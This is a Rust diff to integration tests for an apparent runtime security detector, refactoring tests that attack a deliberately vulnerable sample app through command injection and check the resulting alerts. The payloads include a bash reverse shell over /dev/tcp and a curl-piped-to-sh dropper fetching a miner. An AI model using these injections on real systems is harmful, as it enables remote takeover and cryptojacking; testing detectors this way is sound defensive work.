@@ -159,6 +159,19 @@ fn url_encode(s: &str) -> String {
         .collect()
 }
 
+/// Sends `payload` through the sample app's vulnerable /lookup endpoint (command injection).
+fn inject(ip: &str, payload: &str) {
+    let _ = get(ip, 8080, &format!("/lookup?name={}", url_encode(payload)));
+}
+
+/// The first finding of `category`, or a failure showing the container's log.
+fn find_category<'a>(findings: &'a [Value], category: &str, c: &Container) -> &'a Value {
+    findings
+        .iter()
+        .find(|f| f["category"] == category)
+        .unwrap_or_else(|| panic!("no {category:?} finding in:\n{}", c.logs()))
+}
+
 fn loud(findings: &[Value]) -> Vec<&Value> {
     findings
         .iter()
@@ -200,19 +213,13 @@ fn vulnerable_web_app_reverse_shell_through_command_injection() {
         String::from_utf8_lossy(&got).into_owned()
     });
     let payload = format!("x;bash -c 'bash -i >& /dev/tcp/{gateway}/{port} 0>&1'");
-    let encoded = url_encode(&payload);
-    let _ = get(&ip, 8080, &format!("/lookup?name={encoded}"));
+    inject(&ip, &payload);
     let session = attacker.join().unwrap();
     assert!(session.contains('0'), "the reverse shell did not run `id -u`: {session:?}");
     std::thread::sleep(Duration::from_millis(700));
 
     let findings = c.findings();
-    let find = |category: &str| {
-        findings
-            .iter()
-            .find(|f| f["category"] == category)
-            .unwrap_or_else(|| panic!("no {category:?} finding in:\n{}", c.logs()))
-    };
+    let find = |category: &str| find_category(&findings, category, &c);
     let child_shell = find("Unexpected Child Shell");
     assert_eq!(child_shell["severity"], "CRITICAL");
     assert!(child_shell["ancestors"][0]["binary"]["path"].as_str().unwrap().contains("python3"));
@@ -334,19 +341,13 @@ fn dropped_miner_through_command_injection() {
     .into_bytes();
     let server = serve_files(listener, vec![("/d.sh", dropper), ("/kworker", miner)], 2);
     let payload = format!("x;curl -s {base}/d.sh | sh");
-    let encoded = url_encode(&payload);
-    let _ = get(&ip, 8080, &format!("/lookup?name={encoded}"));
+    inject(&ip, &payload);
     let served = server.join().unwrap();
     assert_eq!(served, vec!["/d.sh", "/kworker"], "the dropper did not fetch both stages");
     std::thread::sleep(Duration::from_millis(700));
 
     let findings = c.findings();
-    let find = |category: &str| {
-        findings
-            .iter()
-            .find(|f| f["category"] == category)
-            .unwrap_or_else(|| panic!("no {category:?} finding in:\n{}", c.logs()))
-    };
+    let find = |category: &str| find_category(&findings, category, &c);
     let miner_f = find("Execution: Added Malicious Binary Executed");
     assert_eq!(miner_f["processes"][0]["binary"]["path"], "/tmp/.kworker");
     assert_eq!(miner_f["indicator"]["signatures"][0]["yaraRuleSignature"]["yaraRule"], "miner_xmrig_family");
